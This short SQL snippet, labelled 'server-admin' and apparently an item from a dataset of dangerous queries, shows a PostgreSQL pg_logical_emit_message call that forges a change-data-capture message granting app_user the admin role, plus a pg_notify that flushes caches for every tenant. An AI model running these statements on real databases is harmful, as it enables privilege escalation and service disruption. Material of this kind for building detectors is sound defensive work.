-- class: server-admin
-- Injects a forged message into the logical decoding stream that CDC consumers apply as a command.
SELECT pg_logical_emit_message(true, 'app.cdc', '{"op":"grant","role":"app_user","to":"admin"}');
SELECT pg_notify('cache_invalidate', '{"flush":"all","tenant":"*"}');
